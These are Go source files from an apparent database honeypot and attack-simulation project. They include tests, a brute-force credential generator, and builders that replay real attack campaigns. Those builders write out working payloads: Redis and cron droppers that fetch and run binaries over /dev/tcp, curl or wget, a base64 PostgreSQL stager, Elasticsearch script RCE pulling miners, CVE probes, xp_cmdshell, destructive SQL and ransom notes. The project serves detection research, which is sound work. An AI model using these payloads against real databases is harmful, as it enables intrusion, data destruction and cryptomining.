						"DELETE FROM readme",
					)...)),
			},
		},
		{
			dbms: core.Elastic, level: core.Medium,
			scripts: []Script{
				elasticRequests(luciferReqs("198.51.100.77", 60102)), // SEARCH SCRIPT-EXEC
			},
		},
		{
			dbms: core.MongoDB, level: core.High,
			scripts: []Script{
				mongoCmds([]bson.D{
					{{Key: "insert", Val: "notes"},
						{Key: "documents", Val: bson.A{bson.D{{Key: "content", Val: "pay up"}}}},
						{Key: "$db", Val: "shop"}},
					{{Key: "delete", Val: "notes"},
						{Key: "deletes", Val: bson.A{bson.D{{Key: "q", Val: bson.D{}}, {Key: "limit", Val: int32(0)}}}},
						{Key: "$db", Val: "shop"}},
					{{Key: "drop", Val: "notes"}, {Key: "$db", Val: "shop"}},
					{{Key: "dropDatabase", Val: int32(1)}, {Key: "$db", Val: "shop"}},
				}),
			},
		},
		{
			dbms: core.MSSQL, level: core.Low,
			scripts: []Script{
				mssqlPreauthBatch("EXEC master..xp_cmdshell 'whoami'"),
			},
		},
		{
			dbms: core.MySQL, level: core.Medium,
			scripts: []Script{
				mysqlQueries("root", []string{
					"INSERT INTO readme VALUES ('pay up')",
					"UPDATE users SET pass = 'x'",
					// Not `FROM users` — that trips the honeytoken result
					// path before the DELETE branch is reached.
					"DELETE FROM orders",
					"DROP TABLE users",
					"DROP DATABASE shop",
					"CREATE TABLE z(cmd_output text)",
					"CREATE DATABASE pwned",
					"ALTER TABLE users ADD COLUMN c text",
					"ALTER USER root IDENTIFIED BY 'x'",
					"CREATE USER mallory IDENTIFIED BY 'pw'",
				}),
			},
		},
		{
			dbms: core.CouchDB, level: core.Medium,
			scripts: []Script{
				elasticRequests([]httpReq{
					{method: "PUT", target: "/_users/org.couchdb.user:hacker",
						body: `{"type":"user","name":"hacker","roles":["_admin"],"password":"x"}`},
					{method: "DELETE", target: "/customers"},
					{method: "PUT", target: "/backup"},
					{method: "PUT", target: "/customers/README", body: `{"content":"pay up"}`},
					{method: "POST", target: "/customers/README2", body: `{"content":"pay up"}`},
					{method: "PUT", target: "/_config/admins/hacker", body: `"pw"`},
					{method: "DELETE", target: "/_config/admins/hacker"},
				}),
			},
		},
	}

	for _, tc := range cases {
		t.Run(tc.dbms, func(t *testing.T) {
			want := classify.ExploitActions(tc.dbms)
			if len(want) == 0 {
				t.Fatalf("no exploit actions registered for %s", tc.dbms)
			}
			info := core.Info{
				DBMS: tc.dbms, Level: tc.level, Port: core.DefaultPort(tc.dbms),
				Config: core.ConfigDefault, Group: core.GroupSingle, VM: "drift",
			}
			in := &instance{info: info, handler: buildHandler(info, 1)}
			sink := &cmdSink{seen: map[string]bool{}}
			src := netip.MustParseAddrPort("203.0.113.200:40000")
			for i, script := range tc.scripts {
				j := job{
					at:  core.ExperimentStart.Add(time.Duration(i) * time.Minute),
					src: src, inst: in, script: script,
				}
				if err := runSession(context.Background(), j, sink); err != nil {
					t.Fatalf("script %d: %v", i, err)
				}
			}
			for _, action := range want {
				if !sink.seen[action] {
					t.Errorf("exploit action %q not producible by the %s emulation (saw %v)",
						action, tc.dbms, sink.actions())
				}
			}
			// And no drift in the other direction either: everything the
			// scripts produced that Step grades as exploiting must be a
			// table entry — Step's verdict comes from the table, so this
			// holds by construction unless Step changes shape.
			for a := range sink.seen {
				if classify.Step(tc.dbms, a, "") == classify.Exploiting {
					found := false
					for _, w := range want {
						if w == a {
							found = true
							break
						}
					}
					if !found {
						t.Errorf("action %q grades as exploiting but is missing from ExploitActions(%s)", a, tc.dbms)
					}
				}
			}
		})
	}
}

// cmdSink collects the normalised command tokens a session emits.
type cmdSink struct {
	mu   sync.Mutex
	seen map[string]bool
}

func (c *cmdSink) Record(e core.Event) {
	if e.Kind != core.EventCommand {
		return
	}
	c.mu.Lock()
	c.seen[e.Command] = true
	c.mu.Unlock()
}

func (c *cmdSink) actions() []string {
	out := make([]string, 0, len(c.seen))
	for a := range c.seen {
		out = append(out, a)
	}
	return out
}

// mssqlPreauthBatch sends a SQLBatch straight after PRELOGIN, skipping
// LOGIN7 — nothing legitimate does this, and the honeypot logs it as
// the exploit-grade SQLBATCH-PREAUTH observation.
func mssqlPreauthBatch(sql string) Script {
	return func(conn net.Conn) error {
		defer conn.Close()
		br := bufio.NewReader(conn)
		pre := mssql.Packet{Type: mssql.PktPrelogin, Payload: mssql.StandardPrelogin(11, 0, 0, 0)}
		if err := mssql.WritePacket(conn, pre); err != nil {
			return err
		}
		if _, err := mssql.ReadPacket(br); err != nil {
			return err
		}
		payload := make([]byte, 0, len(sql)*2)
		for _, r := range sql { // UCS-2LE, as TDS batches are encoded
			payload = append(payload, byte(r), byte(r>>8))
		}
		return mssql.WritePacket(conn, mssql.Packet{Type: mssql.PktSQLBatch, Payload: payload})
	}
}

// mysqlQueries logs into the medium-interaction MySQL honeypot (any
// credentials are accepted) and runs text-protocol queries.
func mysqlQueries(user string, queries []string) Script {
	return func(conn net.Conn) error {
		defer conn.Close()
		br := bufio.NewReader(conn)
		if _, err := mysql.ReadPacket(br); err != nil {
			return err
		}
		lr := mysql.LoginRequest{
			Capabilities: mysql.CapLongPassword | mysql.CapProtocol41 |
				mysql.CapSecureConnection | mysql.CapPluginAuth,
			MaxPacket: 1 << 24, Charset: 0x21,
			User: user, AuthData: []byte{0x01},
		}
		if err := mysql.WritePacket(conn, mysql.Packet{Seq: 1, Payload: mysql.EncodeLoginRequest(lr)}); err != nil {
			return err
		}
		if _, err := mysql.ReadPacket(br); err != nil { // OK: medium accepts anyone
			return err
		}
		for _, q := range queries {
			if err := mysql.WritePacket(conn, mysql.Packet{Seq: 0, Payload: append([]byte{mysql.ComQuery}, q...)}); err != nil {
				return err
			}
			pkt, err := mysql.ReadPacket(br)
			if err != nil {
				return err
			}
			if len(pkt.Payload) > 0 && pkt.Payload[0] != 0x00 && pkt.Payload[0] != 0xff {
				// Result set: column defs, EOF, rows, EOF.
				for eofs := 0; eofs < 2; {
					p, err := mysql.ReadPacket(br)
					if err != nil {
						return err
					}
					if len(p.Payload) > 0 && p.Payload[0] == 0xfe && len(p.Payload) < 9 {
						eofs++
					}
				}
			}
		}
		return nil
	}
}
