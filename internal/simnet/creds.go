// Credential corpus for brute-force actors. The paper observed 240,131
// unique credential combinations across 14,540 usernames and 226,961
// passwords; the corpus reproduces that structure (dictionary walks
// peppered with default-credential retries) at the configured scale.
package simnet

import (
	"fmt"
	"math/rand"
	"strconv"
)

// credCorpus holds shared brute-force dictionaries for one run.
type credCorpus struct {
	users  []string
	passes []string
}

var userStems = []string{
	"sa", "admin", "sql", "db", "test", "user", "root", "backup", "web",
	"dev", "oracle", "mssql", "ftp", "guest", "operator", "service", "scan",
	"report", "office", "hr",
}

var passStems = []string{
	"password", "qwerty", "admin", "welcome", "dragon", "master", "login",
	"secret", "abc", "pass", "letmein", "shadow", "monkey", "super", "sql",
}

// newCredCorpus generates the dictionaries, sized per scale.
func newCredCorpus(seed int64, scale int) *credCorpus {
	if scale < 1 {
		scale = 1
	}
	nu := UniqueUsernames / scale
	if nu < 40 {
		nu = 40
	}
	np := UniquePasswords / scale
	if np < 400 {
		np = 400
	}
	r := rand.New(rand.NewSource(seed ^ 0x5ca1ab1e))
	c := &credCorpus{
		users:  make([]string, nu),
		passes: make([]string, np),
	}
	for i := range c.users {
		stem := userStems[i%len(userStems)]
		switch i % 4 {
		case 0:
			c.users[i] = stem + strconv.Itoa(i/len(userStems))
		case 1:
			c.users[i] = stem + "_" + strconv.Itoa(r.Intn(1000))
		case 2:
			c.users[i] = fmt.Sprintf("%s%02d%c", stem, i%100, 'a'+byte(i%26))
		default:
			c.users[i] = stem + strconv.FormatInt(int64(i)*2654435761%100000, 36)
		}
	}
	for i := range c.passes {
		stem := passStems[i%len(passStems)]
		switch i % 5 {
		case 0:
			c.passes[i] = stem + strconv.Itoa(i)
		case 1:
			c.passes[i] = strconv.Itoa(100000 + (i*7919)%900000)
		case 2:
			c.passes[i] = stem + "@" + strconv.Itoa(i%1000)
		case 3:
			c.passes[i] = fmt.Sprintf("%s%d!", stem, i%10000)
		default:
			c.passes[i] = strconv.FormatUint(uint64(i)*11400714819323198485%1e12, 36)
		}
	}
	return c
}

// credStream yields one brute-forcer's attempt sequence: periodic
// default-credential retries interleaved with a dictionary walk starting
// at a per-actor offset.
type credStream struct {
	corpus  *credCorpus
	top     [][2]string
	topUser string
	i       int
	uoff    int
	poff    int
}

// stream creates a per-actor credential stream.
func (c *credCorpus) stream(seed int64, top [][2]string, topUser string) *credStream {
	r := rand.New(rand.NewSource(seed ^ 0x0ddba11))
	return &credStream{
		corpus:  c,
		top:     top,
		topUser: topUser,
		uoff:    r.Intn(len(c.users)),
		poff:    r.Intn(len(c.passes)),
	}
}

// next returns the next (user, password) attempt.
func (s *credStream) next() (string, string) {
	i := s.i
	s.i++
	if i%100 < len(s.top) {
		pair := s.top[i%100]
		return pair[0], pair[1]
	}
	user := s.topUser
	if i%5 == 0 {
		user = s.corpus.users[(s.uoff+i/5)%len(s.corpus.users)]
	}
	pass := s.corpus.passes[(s.poff+i*7)%len(s.corpus.passes)]
	return user, pass
}
