// Campaign payload builders replaying the attack sequences from the
// paper's listings. Per-actor parameters (loader IPs, payload hashes)
// vary, exactly the randomisation that motivates TF clustering over
// normalised actions (Section 6.1).
package simnet

import (
	"encoding/base64"
	"fmt"
)

// p2pinfectCmds reproduces Listing 1: the P2PInfect worm's Redis
// infection chain — cron/ssh-key file drops via CONFIG SET, a rogue
// SLAVEOF master serving exp.so, MODULE LOAD, and system.exec cleanup.
func p2pinfectCmds(c2 string, port int, hash string) [][]string {
	dropper := fmt.Sprintf(
		"\n\n*/1 * * * * root exec 6<>/dev/tcp/%s/%d && echo -n 'GET /linux' >&6 && cat 0<&6 >/tmp/%s; fi && chmod +x /tmp/%s && /tmp/%s\n",
		c2, port, hash, hash, hash)
	return [][]string{
		{"INFO", "server"},
		{"FLUSHDB"},
		{"SET", "x", dropper},
		{"CONFIG", "SET", "rdbcompression", "no"},
		{"CONFIG", "SET", "dir", "/var/spool/cron.d/"},
		{"CONFIG", "SET", "dbfilename", "root"},
		{"SAVE"},
		{"CONFIG", "SET", "dir", "/var/lib/redis"},
		{"CONFIG", "SET", "dbfilename", "dump.rdb"},
		{"CONFIG", "SET", "rdbcompression", "yes"},
		{"FLUSHDB"},
		{"SET", "x", "\n\nssh-rsa AAAAB3NzaC1yc2E" + hash[:8] + " root@localhost.localdomain\n\n"},
		{"CONFIG", "SET", "dir", "/root/.ssh/"},
		{"CONFIG", "SET", "dbfilename", "authorized_keys"},
		{"SAVE"},
		{"CONFIG", "SET", "dir", "/var/lib/redis"},
		{"CONFIG", "SET", "dbfilename", "dump.rdb"},
		{"CONFIG", "SET", "dir", "/tmp/"},
		{"CONFIG", "SET", "dbfilename", "exp.so"},
		{"SLAVEOF", c2, fmt.Sprintf("%d", port)},
		{"MODULE", "LOAD", "/tmp/exp.so"},
		{"SLAVEOF", "NO", "ONE"},
		{"CONFIG", "SET", "dir", "/var/lib/redis"},
		{"CONFIG", "SET", "dbfilename", "dump.rdb"},
		{"system.exec", fmt.Sprintf("exec 6<>/dev/tcp/%s/%d && echo -n 'GET /linux' >&6 && cat 0<&6 >/tmp/%s; fi && chmod +x /tmp/%s && /tmp/%s", c2, port, hash, hash, hash)},
		{"SLAVEOF", "NO", "ONE"},
		{"system.exec", "rm -rf /tmp/exp.so"},
		{"MODULE", "UNLOAD", "system"},
	}
}

// abcbotCmds reproduces Listing 2: the ABCbot cron-dropper fetching
// ff.sh from its loader.
func abcbotCmds(c2 string, port int) [][]string {
	cron := fmt.Sprintf("\n\n*/2 * * * * root wget -q -O- http://%s:%d/ff.sh | sh\n*/3 * * * * root curl -fsSL http://%s:%d/ff.sh | sh\n", c2, port, c2, port)
	return [][]string{
		{"INFO"},
		{"SET", "backup1", cron},
		{"CONFIG", "SET", "dir", "/var/spool/cron/"},
		{"CONFIG", "SET", "dbfilename", "root"},
		{"SAVE"},
		{"CONFIG", "SET", "dir", "/var/spool/cron/crontabs"},
		{"SAVE"},
	}
}

// redisCVECmds reproduces Listing 3: the CVE-2022-0543 Lua sandbox escape
// probing with `id`.
func redisCVECmds() [][]string {
	lua := `local io_l = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io"); local io = io_l(); local f = io.popen("id", "r"); local res = f:read("*a"); f:close(); return res`
	return [][]string{
		{"EVAL", lua, "0"},
	}
}

// kinsingQueries reproduces Listing 4: PostgreSQL code execution through
// COPY FROM PROGRAM with a base64-encoded stager (Listing 9) that pulls
// pg.sh / pg2.sh.
func kinsingQueries(c2, hash string) []string {
	stager := fmt.Sprintf(`#!/bin/bash
pkill -x zsvc
pkill -x pdefenderd
pkill -x updatecheckerd
if [ -x "$(command -v curl)" ]; then
  curl %s/pg.sh|bash
elif [ -x "$(command -v wget)" ]; then
  wget -q -O- %s/pg.sh|bash
else
  __curl http://%s/pg2.sh|bash
fi`, c2, c2, c2)
	b64 := base64.StdEncoding.EncodeToString([]byte(stager))
	return []string{
		fmt.Sprintf("DROP TABLE IF EXISTS %s;", hash),
		fmt.Sprintf("CREATE TABLE %s(cmd_output text);", hash),
		fmt.Sprintf("COPY %s FROM PROGRAM 'echo %s | base64 -d | bash';", hash, b64),
		fmt.Sprintf("SELECT * FROM %s;", hash),
		fmt.Sprintf("DROP TABLE IF EXISTS %s;", hash),
	}
}

// privilegeQueries reproduces Listing 13: superuser password change and
// privilege revocation.
func privilegeQueries(pass string) []string {
	return []string{
		fmt.Sprintf("ALTER USER pgg_superadmins WITH PASSWORD '%s'", pass),
		"ALTER USER postgres WITH NOSUPERUSER",
	}
}

// luciferReqs reproduces Listings 5–6: Elasticsearch dynamic-scripting
// RCE staging the Rudedevil/Lucifer miners sss6/sv6.
func luciferReqs(c2 string, port int) []httpReq {
	script := fmt.Sprintf(`import java.util.*;import java.io.*;BufferedReader br = new BufferedReader(new InputStreamReader(Runtime.getRuntime().exec("curl -o /tmp/sss6 http://%s:%d/sss6").getInputStream()));StringBuilder sb = new StringBuilder();while((str=br.readLine())!=null){sb.append(str);}sb.toString();`, c2, port)
	body := fmt.Sprintf(`{"query":{"filtered":{"query":{"match_all":{}}}},"script_fields":{"exp":{"script":"%s"}}}`, script)
	stage2 := fmt.Sprintf(`rm *
curl -o /tmp/sss6 http://%s:%d/sss6
wget -c http://%s:%d/sss6
chmod 777 /tmp/./sss6
exec /tmp/./sss6
rm /tmp/*
wget http://%s:%d/sv6
chmod 777 sv6
exec ./sv6
rm -r sv6`, c2, port, c2, port, c2, port)
	return []httpReq{
		{method: "POST", target: "/_search", body: body},
		{method: "POST", target: "/_search", body: fmt.Sprintf(`{"script_fields":{"exp":{"script":"Runtime.getRuntime().exec(\"%s\")"}}}`, "sh -c "+oneLine(stage2))},
	}
}

func oneLine(s string) string {
	out := make([]byte, 0, len(s))
	for i := 0; i < len(s); i++ {
		if s[i] == '\n' {
			out = append(out, ';', ' ')
			continue
		}
		if s[i] == '"' {
			out = append(out, '\'')
			continue
		}
		out = append(out, s[i])
	}
	return string(out)
}

// craftReqs reproduces Listing 14: the Craft CMS CVE-2023-41892 probe —
// sent to whatever answers on the port, Elasticsearch included.
func craftReqs() []httpReq {
	body := `action=conditions/render&test[userCondition]=craft\elements\conditions\users\UserCondition&config={"name":"test[userCondition]","as xyz":{"class":"\\GuzzleHttp\\Psr7\\FnStream","__construct()":[{"close":null}],"_fn_close":"phpinfo"}}`
	return []httpReq{
		{method: "POST", target: "/index.php?p=admin/actions/conditions/render", body: body},
	}
}

// vmwareReqs reproduces Listing 12: vSphere version recon ahead of
// CVE-2021-22005 exploitation.
func vmwareReqs() []httpReq {
	body := `<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><RetrieveServiceContent xmlns="urn:vim25"><_this type="ServiceInstance">ServiceInstance</_this></RetrieveServiceContent></soap:Body></soap:Envelope>`
	return []httpReq{
		{method: "POST", target: "/sdk", body: body},
	}
}

// rdpPayload is the RDP negotiation blob from Listing 10 (an mstshash
// cookie on a database port). The blob ends at the cookie terminator so
// line-oriented honeypots observe exactly one probe line per connection.
func rdpPayload() string {
	return "\x03\x00\x00\x26\x21\xe0\x00\x00\x00\x00\x00Cookie: mstshash=Administr\r\n"
}

// jdwpPayload is the JDWP handshake from Listing 11.
func jdwpPayload() string { return "JDWP-Handshake" }

// Ransom note templates from Listings 7 and 8 — two distinct groups.
const (
	ransomNote1 = "All your data is backed up. You must pay 0.0058 BTC to %s In 48 hours, your data will be publicly disclosed and deleted. (more information: go to http://tor2door.example) After paying send mail to us: %s and we will provide a link for you to download your data. Your DBCODE is: %s"
	ransomNote2 = "Your DB has been back up. The only way of recovery is you must send 0.007 BTC to %s. Once paid please email %s with code: %s and we will recover your database. please read http://recover.example for more information."
)

func ransomNote(group int, btcAddr, email, code string) string {
	if group == 0 {
		return fmt.Sprintf(ransomNote1, btcAddr, email, code)
	}
	return fmt.Sprintf(ransomNote2, btcAddr, email, code)
}
