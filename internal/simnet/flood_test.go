package simnet

import (
	"context"
	"net/netip"
	"sync"
	"testing"
	"time"

	"decoydb/internal/bus"
	"decoydb/internal/core"
)

// floodCountingSink counts delivered events per source behind a fixed
// per-batch delay — slow enough that the flooder outruns the drain and
// pushes the shard past its high-water mark.
type floodCountingSink struct {
	delay time.Duration
	mu    sync.Mutex
	per   map[netip.Addr]int
}

func (s *floodCountingSink) Record(e core.Event) {
	_ = s.RecordBatch([]core.Event{e})
}

func (s *floodCountingSink) RecordBatch(events []core.Event) error {
	time.Sleep(s.delay)
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.per == nil {
		s.per = make(map[netip.Addr]int)
	}
	for _, e := range events {
		s.per[e.Src.Addr()]++
	}
	return nil
}

func (s *floodCountingSink) count(a netip.Addr) int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.per[a]
}

// TestFloodScenarioAdaptive is the acceptance test for the Adaptive
// policy: a single-source flood and background scouts share ONE bus
// shard over a deliberately slow sink. The scouts must come through
// without losing a single event while the flooder is shed, and the
// shed counts must attribute every drop to the flooder.
func TestFloodScenarioAdaptive(t *testing.T) {
	const budget = 6
	sink := &floodCountingSink{delay: 2 * time.Millisecond}
	cfg := FloodConfig{
		Seed:          1,
		FloodSessions: 200,
		Bus: bus.Options{
			// One shard forces flooder and scouts onto the same queue —
			// the hardest case for keeping the scouts lossless.
			Shards: 1, QueueSize: 16, BatchSize: 8,
			Policy:    bus.Adaptive,
			HighWater: 8, LowWater: 2,
			// Every scout session (3 events, one per virtual hour) fits
			// the budget; the flooder's 600 events in one virtual window
			// do not.
			SourceBudget: budget, SourceWindow: time.Hour,
		},
	}
	res, err := RunFlood(context.Background(), cfg, sink)
	if err != nil {
		t.Fatal(err)
	}

	if res.Errors != 0 {
		t.Fatalf("%d torn sessions", res.Errors)
	}
	wantSessions := int64(cfg.FloodSessions + 4*5) // defaults: 4 scouts x 5 sessions
	if res.Sessions != wantSessions {
		t.Fatalf("sessions = %d, want %d", res.Sessions, wantSessions)
	}

	// Zero loss for every scout: all sessions' events delivered, exactly.
	const perScout = 5 * eventsPerFloodSession
	for _, addr := range res.ScoutAddrs {
		if got := sink.count(addr); got != perScout {
			t.Fatalf("scout %s delivered %d events, want %d (scout traffic lost under flood)", addr, got, perScout)
		}
		for _, sd := range res.Bus.Shedders {
			if sd.Addr == addr {
				t.Fatalf("scout %s shows up in shed stats: %+v", addr, sd)
			}
		}
	}

	// The flooder is capped: the bus shed traffic, all of it attributed
	// to the flooding source via the per-source stats.
	if res.Bus.Dropped == 0 {
		t.Fatal("flood did not trigger shedding; scenario proves nothing")
	}
	floodTotal := cfg.FloodSessions * eventsPerFloodSession
	delivered := sink.count(res.Flooder)
	if delivered+int(res.Bus.Dropped) != floodTotal {
		t.Fatalf("flooder: delivered %d + shed %d != sent %d", delivered, res.Bus.Dropped, floodTotal)
	}
	if delivered >= floodTotal/2 {
		t.Fatalf("flooder delivered %d of %d events; cap not effective", delivered, floodTotal)
	}
	if len(res.Bus.Shedders) != 1 || res.Bus.Shedders[0].Addr != res.Flooder {
		t.Fatalf("shedders = %+v, want only %s", res.Bus.Shedders, res.Flooder)
	}
	if res.Bus.Shedders[0].Shed+res.Bus.ShedUnattributed != res.Bus.Dropped {
		t.Fatalf("shed attribution %d + evicted %d != dropped %d",
			res.Bus.Shedders[0].Shed, res.Bus.ShedUnattributed, res.Bus.Dropped)
	}

	// The books balance globally too.
	total := floodTotal + 4*perScout
	if int(res.Bus.Enqueued+res.Bus.Dropped) != total {
		t.Fatalf("enqueued %d + dropped %d != produced %d", res.Bus.Enqueued, res.Bus.Dropped, total)
	}
}

// TestFloodScenarioBlockLossless pins the scenario's baseline: under the
// Block policy the same flood loses nothing at all, it just takes longer.
func TestFloodScenarioBlockLossless(t *testing.T) {
	sink := &floodCountingSink{}
	cfg := FloodConfig{
		Seed:          1,
		FloodSessions: 50,
		Bus:           bus.Options{Shards: 1, QueueSize: 16, BatchSize: 8, Policy: bus.Block},
	}
	res, err := RunFlood(context.Background(), cfg, sink)
	if err != nil {
		t.Fatal(err)
	}
	if res.Bus.Dropped != 0 {
		t.Fatalf("block policy dropped %d events", res.Bus.Dropped)
	}
	if got := sink.count(res.Flooder); got != 50*eventsPerFloodSession {
		t.Fatalf("flooder delivered %d events, want %d", got, 50*eventsPerFloodSession)
	}
}
