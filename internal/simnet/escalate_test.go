package simnet

import (
	"context"
	"testing"

	"decoydb/internal/bus"
	"decoydb/internal/classify"
	"decoydb/internal/stream"
)

// TestEscalationAlertBeforeFloodEnds is the tentpole's bounded-latency
// proof: with a stream.Analyzer riding the bus, the actor's
// scout→exploit transition must surface as an EscalationAlert while the
// background flood is still running — i.e. within a finite number of
// flood sessions of the exploit, not after the run quiesces.
func TestEscalationAlertBeforeFloodEnds(t *testing.T) {
	an := stream.New(stream.Options{})
	cfg := EscalateConfig{
		FloodSessions: 120,
		Bus:           bus.Options{Policy: bus.Block},
		AlertFired: func() bool {
			for _, al := range an.Alerts(8) {
				if al.Kind == stream.EscalationAlert {
					return true
				}
			}
			return false
		},
	}
	res, err := RunEscalation(context.Background(), cfg, an)
	if err != nil {
		t.Fatal(err)
	}
	if res.Errors != 0 {
		t.Fatalf("%d torn sessions", res.Errors)
	}
	if res.AlertAfter < 0 {
		t.Fatal("escalation alert did not fire before the flood ended")
	}
	t.Logf("alert surfaced %d flood sessions after the exploit", res.AlertAfter)

	// Exactly one escalation, and it names the actor's transition.
	var esc []stream.Alert
	for _, al := range an.Alerts(0) {
		if al.Kind == stream.EscalationAlert {
			esc = append(esc, al)
		}
	}
	if len(esc) != 1 {
		t.Fatalf("escalations = %d, want 1 (%v)", len(esc), esc)
	}
	al := esc[0]
	if al.Src != res.Actor.String() {
		t.Errorf("alert src = %q, want %v", al.Src, res.Actor)
	}
	if al.From != "scouting" || al.To != "exploiting" {
		t.Errorf("alert transition = %s→%s, want scouting→exploiting", al.From, al.To)
	}
	if al.Action != "SLAVEOF" {
		t.Errorf("alert action = %q, want SLAVEOF (the chain's first exploit command)", al.Action)
	}

	// The flooder never escalates: login hammering is scouting.
	if v, ok := an.Verdict(res.Flooder); !ok || v != classify.Scouting {
		t.Errorf("flooder verdict = %v ok=%v, want scouting", v, ok)
	}
	if v, ok := an.Verdict(res.Actor); !ok || v != classify.Exploiting {
		t.Errorf("actor verdict = %v ok=%v, want exploiting", v, ok)
	}
}
