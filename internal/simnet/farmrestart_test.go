package simnet_test

// The farm-restart drill: the failure the frame-ownership journal
// exists for. A durable farm — running as a real child process so it
// can be SIGKILLed — floods a two-collector tier, its preferred
// collector is frozen mid-conversation so frames pile up pinned to it
// unacked, the collector is killed, the farm fails over and the rest
// of the flood is acked by the survivor. Then the FARM is SIGKILLed
// with the spool WAL holding frames pinned to both collectors: the
// victim's unacked frames below the mark floor, and above them the
// survivor's already-acked frames that the floor could not pass.
//
// A fresh farm process restarted over the same spool must replay that
// WAL and retransmit each frame only to its journaled owner: the
// victim's frames to the restarted victim, the survivor's to the
// survivor (whose dedup mark absorbs them). Without the ownership
// journal every replayed frame is unowned, the preferred (victim)
// collector receives frames the survivor already ingested, and the
// tier double counts — which is exactly what the merged /query
// assertions at the bottom would catch.

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"decoydb/internal/obs"
	"decoydb/internal/relay"
	"decoydb/internal/wal"
)

const (
	farmRestartName = "restart-farm"
	// farmRestartToken matches the -token every tierProc passes to
	// dbcollect.
	farmRestartToken = "multitok"
)

// TestFarmHelperProcess is not a test: it is the farm child process
// TestFarmRestartExactlyOnce re-execs, gated on an environment
// variable so the normal suite skips it. Mode "flood" opens the spool,
// forwards a fixed event stream, serves the relay stats on an admin
// plane for the parent to watch, and then blocks until SIGKILL. Mode
// "finish" reopens the same spool after the crash and drains it —
// retransmitting every surviving frame to its journaled owner — then
// exits cleanly so the parent knows the replay completed.
func TestFarmHelperProcess(t *testing.T) {
	mode := os.Getenv("DECOYDB_FARM_HELPER")
	if mode == "" {
		t.Skip("helper process for TestFarmRestartExactlyOnce")
	}
	atoi := func(k string) int {
		n, err := strconv.Atoi(os.Getenv(k))
		if err != nil {
			t.Fatalf("%s=%q: %v", k, os.Getenv(k), err)
		}
		return n
	}
	events, frame := atoi("DECOYDB_FARM_EVENTS"), atoi("DECOYDB_FARM_FRAME")
	spool, err := wal.Open(wal.Options{Dir: os.Getenv("DECOYDB_FARM_SPOOL")})
	if err != nil {
		t.Fatal(err)
	}
	fwd, err := relay.NewForwardSink(relay.ForwardOptions{
		Addrs: strings.Split(os.Getenv("DECOYDB_FARM_ADDRS"), ","),
		Token: farmRestartToken, Farm: farmRestartName,
		Block: true, SpoolWAL: spool, FrameEvents: frame,
		MinBackoff: 5 * time.Millisecond, MaxBackoff: 50 * time.Millisecond,
		FailbackInterval: 100 * time.Millisecond,
	})
	if err != nil {
		t.Fatal(err)
	}

	switch mode {
	case "flood":
		reg := obs.NewRegistry()
		reg.Register(obs.ForwardSource(fwd))
		if _, err := obs.NewServer(obs.ServerOptions{Registry: reg}).Start(os.Getenv("DECOYDB_FARM_ADMIN")); err != nil {
			t.Fatal(err)
		}
		// One frame-sized batch per tick: each RecordBatch cuts and
		// journals a frame before returning, so every event this loop
		// got past is durable whenever the parent pulls the trigger.
		// The pacing leaves the parent time to freeze and kill the
		// victim collector while the flood is still running.
		for sent := 0; sent < events; sent += frame {
			if err := fwd.RecordBatch(crashEvents(sent, frame)); err != nil {
				t.Fatal(err)
			}
			time.Sleep(150 * time.Millisecond)
		}
		select {} // hold the pins and the admin plane until SIGKILL

	case "finish":
		// The reload already happened inside NewForwardSink; the write
		// loop is retransmitting to journaled owners. Wait for the
		// spool to drain completely, then leave without incident.
		deadline := time.Now().Add(30 * time.Second)
		for {
			st := fwd.Stats()
			if st.SpoolFrames == 0 && st.Pending == 0 && spool.Mark() == spool.LastSeq() {
				break
			}
			if time.Now().After(deadline) {
				t.Fatalf("spool did not drain after restart: %+v (mark=%d last=%d)", st, spool.Mark(), spool.LastSeq())
			}
			time.Sleep(10 * time.Millisecond)
		}
		if err := fwd.Close(); err != nil {
			t.Fatal(err)
		}
		if err := spool.Close(); err != nil {
			t.Fatal(err)
		}

	default:
		t.Fatalf("unknown DECOYDB_FARM_HELPER mode %q", mode)
	}
}

// startFarmHelper re-execs this test binary as the farm child process.
func startFarmHelper(t *testing.T, mode, spoolDir string, addrs []string, adminAddr string, events, frame int) *exec.Cmd {
	t.Helper()
	cmd := exec.Command(os.Args[0], "-test.run=^TestFarmHelperProcess$", "-test.v")
	cmd.Env = append(os.Environ(),
		"DECOYDB_FARM_HELPER="+mode,
		"DECOYDB_FARM_SPOOL="+spoolDir,
		"DECOYDB_FARM_ADDRS="+strings.Join(addrs, ","),
		"DECOYDB_FARM_ADMIN="+adminAddr,
		fmt.Sprintf("DECOYDB_FARM_EVENTS=%d", events),
		fmt.Sprintf("DECOYDB_FARM_FRAME=%d", frame),
	)
	out := &bytes.Buffer{}
	cmd.Stdout = out
	cmd.Stderr = os.Stderr
	if err := cmd.Start(); err != nil {
		t.Fatalf("start farm helper (%s): %v", mode, err)
	}
	return cmd
}

// farmRelayStats reads the flood helper's relay section off its admin
// plane. Any failure (plane not up yet, section missing) returns ok
// false so waitUntil conditions just poll again.
func farmRelayStats(adminAddr string) (relay.Stats, bool) {
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Second)
	defer cancel()
	status, err := obs.NewClient(adminAddr, 2*time.Second).Statusz(ctx)
	if err != nil {
		return relay.Stats{}, false
	}
	raw, present := status["relay"]
	if !present {
		return relay.Stats{}, false
	}
	var st relay.Stats
	if err := json.Unmarshal(raw, &st); err != nil {
		return relay.Stats{}, false
	}
	return st, true
}

// endpointStats picks one collector's slice out of a relay snapshot.
func endpointStats(st relay.Stats, addr string) relay.EndpointStats {
	for _, ep := range st.Endpoints {
		if ep.Addr == addr {
			return ep
		}
	}
	return relay.EndpointStats{}
}

func TestFarmRestartExactlyOnce(t *testing.T) {
	if testing.Short() {
		t.Skip("builds dbcollect and SIGKILLs real processes; skipped with -short")
	}
	if runtime.GOOS == "windows" {
		t.Skip("needs SIGSTOP/SIGKILL semantics")
	}

	tmp := t.TempDir()
	bin := filepath.Join(tmp, "dbcollect")
	build := exec.Command("go", "build", "-o", bin, "decoydb/cmd/dbcollect")
	build.Stderr = os.Stderr
	if err := build.Run(); err != nil {
		t.Fatalf("go build dbcollect: %v", err)
	}

	relayAddrs := reservePorts(t, 2)
	adminAddrs := reservePorts(t, 2)
